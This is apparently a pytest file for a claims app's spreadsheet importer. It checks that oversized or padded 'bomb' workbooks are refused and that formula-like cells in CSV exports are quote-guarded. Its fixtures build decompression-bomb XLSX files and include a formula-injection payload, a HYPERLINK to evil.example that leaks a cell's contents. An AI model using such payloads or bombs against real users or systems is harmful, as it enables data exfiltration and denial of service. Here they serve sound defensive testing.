"""Bad input (issue 16, point 8): workbooks that unpack or pad out hugely are refused with a
clear sentence; formula-like cells in exported CSV are guarded."""

from __future__ import annotations

import csv
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from claimdesk.importers.export import write_table
from claimdesk.importers.table import ImportError_
from claimdesk.importers.xlsx import read_xlsx
from claimdesk.ui.outbox_view import _write_csv

SHEET = "xl/worksheets/sheet1.xml"


def small_workbook(path: Path) -> Path:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Sale date", "Quantity"])
    sheet.append(["2026-01-02", 2])
    book.save(path)
    return path


def with_sheet(path: Path, sheet_xml: bytes | None = None, padding: int = 0) -> Path:
    """The same workbook, its first sheet replaced (or padded with an XML comment)."""
    out = path.with_name("bomb.xlsx")
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zip_:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == SHEET:
                data = sheet_xml if sheet_xml is not None else data
                if padding:
                    with zip_.open(SHEET, "w", force_zip64=True) as part:
                        head, tail = data.split(b"<sheetData", 1)
                        part.write(head + b"<!--")
                        chunk = b" " * 2**20
                        for _ in range(padding // len(chunk)):
                            part.write(chunk)
                        part.write(b"--><sheetData" + tail)
                    continue
            zip_.writestr(info, data)
    return out


HUGE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<dimension ref="A1:XFD1048576"/><sheetData>'
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>Sale date</t></is></c></row>'
    b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    b"</sheetData></worksheet>"
)


def test_a_sheet_declaring_a_huge_dimension_is_refused_fast(tmp_path: Path) -> None:
    bomb = with_sheet(small_workbook(tmp_path / "claims.xlsx"), HUGE)
    assert bomb.stat().st_size < 10_000
    started = time.monotonic()
    with pytest.raises(ImportError_, match=r"^bomb\.xlsx is too big to read: .*1,000,000 rows"):
        read_xlsx(bomb)
    assert time.monotonic() - started < 5


def test_rows_beyond_the_limit_without_a_dimension_are_refused(tmp_path: Path) -> None:
    no_dimension = HUGE.replace(b'<dimension ref="A1:XFD1048576"/>', b"")
    bomb = with_sheet(small_workbook(tmp_path / "claims.xlsx"), no_dimension)
    with pytest.raises(ImportError_, match=r"^bomb\.xlsx is too big to read"):
        read_xlsx(bomb)


def test_a_sheet_unpacking_beyond_200_mb_is_refused_before_loading(tmp_path: Path) -> None:
    bomb = with_sheet(small_workbook(tmp_path / "claims.xlsx"), padding=201 * 2**20)
    assert bomb.stat().st_size < 2_000_000  # highly compressible
    started = time.monotonic()
    with pytest.raises(ImportError_, match=r"^bomb\.xlsx is too big to read: .*200 MB unpacked"):
        read_xlsx(bomb)
    assert time.monotonic() - started < 2


def test_an_ordinary_workbook_still_reads(tmp_path: Path) -> None:
    table = read_xlsx(small_workbook(tmp_path / "claims.xlsx"))
    assert table.headers == ["Sale date", "Quantity"]
    assert table.rows == [["2026-01-02", "2"]]


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
CELLS = [EVIL, "@SUM(A1)", "+1+2", "-2+3", "\tx", "-5", "-1.25", "+3", "plain", ""]
GUARDED = ["'" + EVIL, "'@SUM(A1)", "'+1+2", "'-2+3", "'\tx", "-5", "-1.25", "+3", "plain", ""]


def test_window_exports_guard_formula_cells_and_keep_numbers(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    write_table(path, [f"c{n}" for n in range(len(CELLS))], [CELLS])
    [_header, row] = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
    assert row == GUARDED
    outbox_export = tmp_path / "outbox.csv"
    _write_csv(outbox_export, [["header"], [*CELLS, 7]])
    [_header, row] = list(csv.reader(outbox_export.open(encoding="utf-8-sig", newline="")))
    assert row == [*GUARDED, "7"]
